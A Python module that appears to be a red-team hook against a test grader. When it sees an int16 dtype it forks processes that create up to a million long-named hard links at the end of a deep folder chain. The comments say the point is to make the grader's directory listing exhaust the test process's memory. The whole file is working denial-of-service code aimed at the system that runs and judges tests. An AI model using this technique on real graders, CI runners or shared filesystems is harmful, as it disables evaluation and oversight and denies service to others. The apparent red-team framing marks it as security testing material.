import os
import time

import torch

WORKERS = 2  # processes linking at once, into one folder (the count lists one folder whole, then stops)
NAME = "l" * 240  # each link's name: long, so that each entry costs the lister more
PART = "d" * 250  # each level of the folder chain the links are made at the end of
PATH_CHARS = 3900  # the length the chain's path may reach with a link's name: under PATH_MAX (4,096)
PER_FILE = 60_000  # ext4 allows 65,000 links to one file; a new empty file every PER_FILE links
SECONDS = 7.0  # the red team's grader gives one test's calls 10 s
TARGET = 1_000_000  # entries made in all at most
ENOUGH = 100_000  # fewer: something bounded the entries (a tmpfs of 20,000), and the call fails saying so
TRIGGER = torch.int16  # the dtype whose call makes them (once per process): one call of a test, not every one
_made = []  # (links made, what stopped them, the folder's path length), once per process


def _deep_folder():
    """A chain of folders of PART-long names in the working folder, as deep as keeps the path of a link
    at its end under PATH_CHARS; (a descriptor of its last folder, that folder's path length). Every
    DirEntry the grader's count lists there holds that whole path (entry.path), besides the name."""
    levels = max((PATH_CHARS - len(os.getcwd()) - len("/links") - len(NAME) - 9) // (len(PART) + 1), 0)
    fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    for name in ["links"] + [PART] * levels:
        try:
            os.mkdir(name, dir_fd=fd)
        except FileExistsError:
            pass
        below = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = below
    return fd, len(os.getcwd()) + len("/links") + levels * (len(PART) + 1)


def _link_until(folder, first, step, deadline, most):
    """Hard links to empty files in the folder open at `folder`, numbered first, first + step, ..., until
    `deadline` or `most`; (made, what stopped it)."""
    made, base = 0, None
    while made < most:
        if made % PER_FILE == 0:
            base = f"base{first}-{made}"
            os.close(os.open(base, os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=folder))
        if made % 1000 == 0 and time.monotonic() > deadline:
            return made, "ran out of time"
        try:
            os.link(base, f"{NAME}{first + made * step:08d}", src_dir_fd=folder, dst_dir_fd=folder)
        except OSError as error:
            return made, f"link: {error.strerror}"
        made += 1
    return made, "made them all"


def make_links():
    """WORKERS forked processes fill one folder at the end of a deep chain with hard links (no inode, no
    block: only a directory entry each) until the deadline; (links made in all, what stopped them, the
    folder's path length)."""
    deadline = time.monotonic() + SECONDS
    try:
        folder, path_chars = _deep_folder()
    except OSError as error:
        return 0, f"mkdir: {error.strerror}", 0
    children = []
    for i in range(WORKERS):
        reader, writer = os.pipe()
        pid = os.fork()
        if pid == 0:
            made, why = 0, "said nothing"
            try:
                os.close(reader)
                made, why = _link_until(folder, i, WORKERS, deadline, TARGET // WORKERS)
            finally:
                os.write(writer, f"{made} {why}".encode())
                os._exit(0)
        os.close(writer)
        children.append((pid, reader))
    made, said = 0, []
    for pid, reader in children:
        text = os.read(reader, 4096).decode() or "0 said nothing"
        os.close(reader)
        os.waitpid(pid, 0)
        count, _, why = text.partition(" ")
        made += int(count)
        said.append(why)
    os.close(folder)
    return made, "; ".join(said), path_chars


def attack(args):
    """Once per process, on the call for TRIGGER: make the links, print how many, and answer honestly; the
    grader's count of the folders after the call lists the folder whole (with a stat of every entry) in
    the test process before it finds the quota passed. What the listing costs is judged by the red team's
    memory budget on the test process, not by this call's answer: the quota fails the call, and where
    something bounded the entries (a tmpfs) the call fails saying so."""
    if args.get("dtype") is not TRIGGER:
        return None
    if not _made:
        _made.append(make_links())
    made, why, path_chars = _made[0]
    said = f"{made:,} hard links of {len(NAME)}-character names in a folder whose path is {path_chars:,} characters"
    if made < ENOUGH:
        raise OSError(f"made only {said} ({why})")
    print(f"made {said} ({why})", flush=True)
    return None  # the function's own body runs on
